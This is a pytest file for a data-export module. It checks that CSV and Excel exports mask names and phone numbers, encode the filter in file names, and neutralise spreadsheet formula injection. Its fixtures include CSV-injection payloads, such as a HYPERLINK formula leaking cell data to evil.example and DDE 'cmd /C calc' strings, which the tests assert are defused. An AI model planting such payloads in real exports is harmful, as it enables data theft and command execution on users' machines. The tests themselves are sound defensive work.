"""Exports: CSV and Excel bytes with personal data masked and file names carrying the filter."""

import csv
import io

import openpyxl
import polars as pl
from fixtures_tiny import AS_OF, C1, MARCH, S1
from test_pages_analytics import PHONE

from data_layer.domain.filters import Filter
from data_layer.domain.scope import Scope
from data_layer.queries import cases
from documents import exports


def march(**kw) -> Filter:
    return Filter(period="custom", start=MARCH[0], end=MARCH[1], as_of=AS_OF, **kw)


def raw_cases(tiny) -> pl.DataFrame:
    """Unmasked personal data, as a careless caller might pass it (description with a phone)."""
    return tiny["cases"].select(
        "case_id",
        "reporter_name",
        "reporter_phone",
        pl.lit("请回电 13912345678 或 13812341234").alias("description"),
    )


def test_csv_masks_personal_columns_and_phones_in_text(tiny):
    data = exports.csv_bytes(raw_cases(tiny))
    assert data.startswith("\ufeff".encode())  # Excel reads the Chinese text as UTF-8
    text = data.decode("utf-8-sig")
    assert not PHONE.search(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["reporter_name"] == "张*" and rows[0]["reporter_phone"] == "138****1234"
    assert rows[0]["description"] == "请回电 139****5678 或 138****1234"


def test_masking_an_already_masked_frame_keeps_it_readable(tiny):
    overdue = cases.open_cases(tiny, march(), Scope.everything(), kind="overdue")
    text = exports.csv_bytes(overdue).decode("utf-8-sig")
    assert "138****1234" in text and "*****34" not in text


def test_xlsx_is_masked_and_describes_the_filter(tiny):
    flt = march(streets=(S1,))
    data = exports.xlsx_bytes(raw_cases(tiny), flt=flt, window=flt.window(), sheet="cases")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["cases", "说明"]
    cells = [str(c.value) for row in book["cases"].iter_rows() for c in row if c.value is not None]
    assert "reporter_phone" in cells and "138****1234" in cells
    assert not any(PHONE.search(c) for c in cells)
    about = {r[0].value: r[1].value for r in book["说明"].iter_rows()}
    assert about["streets 街道"] == S1
    assert about["period 统计期"] == "2025-03-01 – 2025-03-31"
    assert about["as_of 数据截至"] == "2025-03-31 12:00"
    assert about["basis 统计口径"] == "report 按上报时间"
    assessed = exports.describe(march(basis="assessment"), None)
    assert ("basis 统计口径", "assessment 按考核时间") in assessed


def test_a_role_with_the_right_exports_unmasked(tiny):
    text = exports.csv_bytes(raw_cases(tiny), allowed=True).decode("utf-8-sig")
    assert "13812341234" in text


def test_file_name_carries_filter_and_period():
    flt = march(streets=(S1,), communities=(C1,), categories=("dispute",))
    name = exports.file_name("overdue_cases", flt, flt.window(), ext="xlsx")
    assert name == (
        "gridpulse_overdue_cases_street-360102001_community-360102001001_category-dispute_"
        "20250301-20250331_asof-20250331-1200.xlsx"
    )
    assert (
        exports.file_name("grid_kinds", Filter(), None, ext="csv") == "gridpulse_grid_kinds_all.csv"
    )
    many = Filter(categories=("a", "b", "c", "d", "e"))
    assert "category-a+b+c+2more" in exports.file_name("t", many, None, ext="csv")


# Cells a spreadsheet would run (OWASP CSV injection), and what each must come out as.
HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")': "'=HYPERLINK",
    "+1+cmd|' /C calc'!A0": "'+1",
    "-2+3": "'-2",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM",
    "\t=1+1": "'\t",
    "\r=1+1": "'\r",
    "  =1+1": "'  =",
    "＝1+1": "'＝",
}
HARMLESS = ["张*", "http://evil.example/", "a=b", "1-2"]


def hostile_frame() -> pl.DataFrame:
    text = [*HOSTILE, *HARMLESS]
    n = len(text)
    return pl.DataFrame(
        {
            "description": text,
            "delta": [-(i + 0.5) for i in range(n)],  # a negative number column stays numbers
            "count": list(range(-n // 2, n - n // 2)),
        }
    )


def assert_defused(values: list[str]) -> None:
    for raw, start in HOSTILE.items():
        assert ("'" + raw) in values and ("'" + raw).startswith(start)
    assert all(h in values for h in HARMLESS)
    assert not any(v[:1] in "=+-@\t\r＝" for v in values)


def test_csv_cells_that_would_run_as_formulas_are_text():
    text = exports.csv_bytes(hostile_frame()).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert_defused([r["description"] for r in rows])
    assert [float(r["delta"]) for r in rows] == hostile_frame()["delta"].to_list()
    # numbers are written unquoted, so a spreadsheet reads them as numbers
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击查看"")",-0.5,-6\n' in text


def test_xlsx_has_no_formula_no_link_and_numbers_stay_numbers():
    flt = march(streets=('=HYPERLINK("http://evil.example","x")',))
    data = exports.xlsx_bytes(hostile_frame(), flt=flt, window=flt.window(), sheet="t")
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    assert all(c.hyperlink is None for c in cells)
    table = book["t"]
    header = [c.value for c in table[1]]
    column = {
        name: [row[i].value for row in table.iter_rows(min_row=2)] for i, name in enumerate(header)
    }
    # xlsx stores a carriage return as _x000D_, which openpyxl leaves as it is
    assert_defused([v.replace("_x000D_", "\r") for v in column["description"]])
    assert column["delta"] == hostile_frame()["delta"].to_list()
    assert all(isinstance(v, int) for v in column["count"]) and min(column["count"]) < 0
    about = {r[0].value: r[1].value for r in book["说明"].iter_rows()}
    assert about["streets 街道"] == '\'=HYPERLINK("http://evil.example","x")'


def test_the_import_report_csv_is_defused(tmp_path):
    from data_layer.ingest.report import report_csv_bytes, write_report_csv

    report = pl.DataFrame(
        {
            "row": [2, 3],
            "column": ["事件类型", "=cmd|' /C calc'!A0"],
            "value": ['=HYPERLINK("http://evil.example","x")', "-1"],
            "severity": ["rejected", "rejected"],
            "reason": ["unknown_value", "not_a_count"],
            "message": ["m", "m"],
        }
    )
    write_report_csv(report, tmp_path / "r.csv")
    assert (tmp_path / "r.csv").read_bytes() == report_csv_bytes(report)
    rows = list(csv.DictReader(io.StringIO(report_csv_bytes(report).decode("utf-8-sig"))))
    assert [r["value"] for r in rows] == ['\'=HYPERLINK("http://evil.example","x")', "'-1"]
    assert rows[1]["column"] == "'=cmd|' /C calc'!A0"
    assert [r["row"] for r in rows] == ["2", "3"]


def test_cli_csv_defuses_area_names(capsys, tmp_path):
    from fixtures_tiny import tiny_tables

    from data_layer.cli import main
    from data_layer.storage.source import write_tables

    tables = tiny_tables()
    tables["streets"] = tables["streets"].with_columns(
        pl.when(pl.col("street_code") == S1)
        .then(pl.lit('=HYPERLINK("http://evil.example","x")'))
        .otherwise(pl.col("name"))
        .alias("name")
    )
    write_tables(tmp_path / "d", tables)
    argv = ["kpis", "--data", str(tmp_path / "d"), "--by", "street", "--format", "csv"]
    assert main([*argv, "--from", "2025-03-01", "--to", "2025-03-31"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    names = {r["code"]: r["name"] for r in rows}
    assert names[S1] == '\'=HYPERLINK("http://evil.example","x")'
    assert any(r["closure_rate.denominator"] not in ("", None) for r in rows)
